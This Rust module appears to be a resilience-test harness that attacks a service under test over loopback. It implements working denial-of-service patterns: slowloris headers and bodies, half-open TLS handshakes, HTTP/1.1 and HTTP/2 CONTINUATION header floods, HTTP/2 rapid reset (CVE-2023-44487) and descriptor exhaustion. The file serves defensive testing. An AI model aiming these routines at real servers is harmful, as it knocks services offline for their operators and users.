//! What may come in from outside, from many addresses at once: slowness, floods, resets, silence.

use std::net::{Ipv4Addr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use futures_util::StreamExt as _;
use rustls::pki_types::ServerName;
use service::ClientTlsConfig;
use tokio::io::{AsyncRead, AsyncReadExt as _, AsyncWrite, AsyncWriteExt as _};
use tokio::net::{TcpSocket, TcpStream};
use tokio_rustls::TlsConnector;
use tokio_rustls::client::TlsStream;

use crate::harness::in_time;

/// Attackers at once, where they come and go.
const AT_ONCE: usize = 64;
const PART: usize = 1_000;
/// How often a slow sender sends a byte.
const DRIP: Duration = Duration::from_millis(250);
/// Frames of HTTP/2 (RFC 9113 §6).
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
/// `:method: GET`, `:scheme: https`, `:path: /`, `:authority: a` (RFC 7541, literal without indexing).
const FIELDS: &[u8] = b"\x82\x87\x84\x01\x01a";

/// Attacks on one address, from many.
#[derive(Clone)]
pub(crate) struct Attacker {
    address: SocketAddr,
    http1: TlsConnector,
    http2: TlsConnector,
    count: Arc<AtomicU64>,
}

impl Attacker {
    pub(crate) fn new(address: SocketAddr, tls: &ClientTlsConfig) -> Self {
        let connector = |protocol: &[u8]| {
            let mut config = tls.load().unwrap();
            config.alpn_protocols = vec![protocol.to_vec()];
            TlsConnector::from(Arc::new(config))
        };
        Self { address, http1: connector(b"http/1.1"), http2: connector(b"h2"), count: Arc::default() }
    }

    /// A connection from one of many addresses, so that no bound on one of them is in the way. It is reset when dropped,
    /// so that none of its ports stays taken.
    async fn tcp(&self) -> Option<TcpStream> {
        let number = self.count.fetch_add(1, Ordering::Relaxed);
        let [c, d] = [number / 200 % 50, number % 200].map(|part| u8::try_from(part + 1).unwrap());
        let socket = TcpSocket::new_v4().unwrap();
        socket.set_zero_linger().unwrap();
        socket.bind(SocketAddr::from((Ipv4Addr::new(127, 99, c, d), 0))).unwrap();
        in_time(socket.connect(self.address)).await.ok()
    }

    async fn tls(&self, connector: &TlsConnector) -> Option<TlsStream<TcpStream>> {
        let name = ServerName::IpAddress(self.address.ip().into());
        in_time(connector.connect(name, self.tcp().await?)).await.ok()
    }

    /// So many connections that begin the head of a request and go on byte by byte, each until the service closes it.
    /// `meanwhile` runs when all have begun.
    pub(crate) async fn slow_heads(&self, many: usize, meanwhile: impl Future<Output = ()>) {
        let dripping = self.begun(many, "GET / HTTP/1.1\r\nx-slow: ").await.into_iter().map(drip_until_closed);
        tokio::join!(in_time(futures_util::future::join_all(dripping)), meanwhile);
    }

    /// So many connections that send this head and of its body nothing, while `meanwhile` runs.
    pub(crate) async fn slow_bodies(&self, many: usize, head: &str, meanwhile: impl Future<Output = ()>) {
        let streams = self.begun(many, head).await;
        meanwhile.await;
        drop(streams);
    }

    async fn begun(&self, many: usize, text: &str) -> Vec<TlsStream<TcpStream>> {
        let begin = |_| async move {
            let mut stream = self.tls(&self.http1).await?;
            stream.write_all(text.as_bytes()).await.ok().map(|()| stream)
        };
        let begun = futures_util::stream::iter(0..many).map(begin).buffered(AT_ONCE).collect::<Vec<_>>().await;
        let streams: Vec<_> = begun.into_iter().flatten().collect();
        assert!(streams.len() > many * 9 / 10, "only {} of {many} came through", streams.len());
        streams
    }

    /// So many connections that stop in the midst of the TLS handshake, each until the service closes it.
    pub(crate) async fn half_open(&self, many: usize, meanwhile: impl Future<Output = ()>) {
        let begin = |number: usize| async move {
            let mut stream = self.tcp().await.unwrap();
            // The first bytes of a ClientHello that would be 512 bytes long, or nothing at all.
            if number.is_multiple_of(2) {
                stream.write_all(&[22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3]).await.unwrap();
            }
            stream
        };
        let streams: Vec<_> = futures_util::stream::iter(0..many).map(begin).buffered(AT_ONCE).collect().await;
        let waiting = futures_util::future::join_all(streams.into_iter().map(until_closed));
        tokio::join!(in_time(waiting), meanwhile);
    }

    /// Heads without end, over HTTP/1.1 and HTTP/2, until the service closes the connections.
    pub(crate) async fn header_floods(&self, many: usize) {
        let fields = "x-flood: and more of it\r\n".repeat(40);
        let more = frame(CONTINUATION, 0, 1, &b"\x00\x07x-flood\x0eand more of it".repeat(40));
        let begin = [preface(), frame(HEADERS, END_STREAM, 1, FIELDS)].concat();
        for _ in 0..many {
            let one = self.tls(&self.http1).await.unwrap();
            let two = self.tls(&self.http2).await.unwrap();
            tokio::join!(
                flood_until_closed(one, b"GET / HTTP/1.1\r\n", |_| fields.clone().into_bytes()),
                flood_until_closed(two, &begin, |_| more.clone())
            );
        }
    }

    /// Streams opened and reset at once (CVE-2023-44487), on each of so many connections, until the service closes them.
    /// How many streams the last one took.
    pub(crate) async fn rapid_resets(&self, many: usize) -> u32 {
        let mut streams = 0;
        for _ in 0..many {
            let stream = self.tls(&self.http2).await.unwrap();
            let batches = flood_until_closed(stream, &preface(), |batch| {
                let resets = |number| {
                    let id = (batch * 100 + number) * 2 + 1;
                    let headers = frame(HEADERS, END_STREAM | END_HEADERS, id, FIELDS);
                    [headers, frame(RST_STREAM, 0, id, &8_u32.to_be_bytes())].concat()
                };
                (0..100).flat_map(resets).collect()
            })
            .await;
            streams = batches * 100;
        }
        streams
    }

    /// So many connections opened and closed, one in twenty after a TLS handshake.
    pub(crate) async fn come_and_go(&self, many: usize) {
        let once = |number: usize| async move {
            if number.is_multiple_of(20) {
                drop(self.tls(&self.http1).await);
            } else {
                drop(self.tcp().await);
            }
        };
        // In parts, so that the deadline is of as many whatever there are.
        for part in (0..many).step_by(PART) {
            let going = futures_util::stream::iter(part..many.min(part + PART)).map(once).buffer_unordered(AT_ONCE);
            in_time(going.collect::<Vec<()>>()).await;
        }
    }

    /// Takes every descriptor that the service has, and holds on while `meanwhile` runs.
    pub(crate) async fn exhaust(&self, many: usize, meanwhile: impl Future<Output = ()>) {
        let mut streams = Vec::new();
        for _ in 0..many {
            streams.extend(self.tcp().await);
        }
        meanwhile.await;
    }
}

fn preface() -> Vec<u8> {
    [&b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"[..], &frame(SETTINGS, 0, 0, &[])].concat()
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// Waits until the other side closes the connection, or resets it.
async fn until_closed(mut stream: impl AsyncRead + Unpin) {
    let _ = stream.read_to_end(&mut Vec::new()).await;
}

/// Sends a byte now and then until the other side closes the connection.
async fn drip_until_closed(stream: impl AsyncRead + AsyncWrite + Unpin) {
    let (reader, mut writer) = tokio::io::split(stream);
    let drip = async {
        while writer.write_all(b"x").await.is_ok() && writer.flush().await.is_ok() {
            tokio::time::sleep(DRIP).await;
        }
    };
    tokio::select! { () = until_closed(reader) => {} () = drip => {} }
}

/// Sends without end until the other side closes the connection; how many parts it took at most.
async fn flood_until_closed(
    stream: impl AsyncRead + AsyncWrite + Unpin,
    begin: &[u8],
    part: impl Fn(u32) -> Vec<u8>,
) -> u32 {
    let (reader, mut writer) = tokio::io::split(stream);
    let sent = AtomicU64::new(0);
    let flood = async {
        let _ = writer.write_all(begin).await;
        for number in 0.. {
            sent.store(u64::from(number) + 1, Ordering::Relaxed);
            if writer.write_all(&part(number)).await.is_err() {
                return;
            }
        }
    };
    in_time(async {
        tokio::select! { () = until_closed(reader) => {} () = flood => {} }
    })
    .await;
    u32::try_from(sent.into_inner()).unwrap()
}
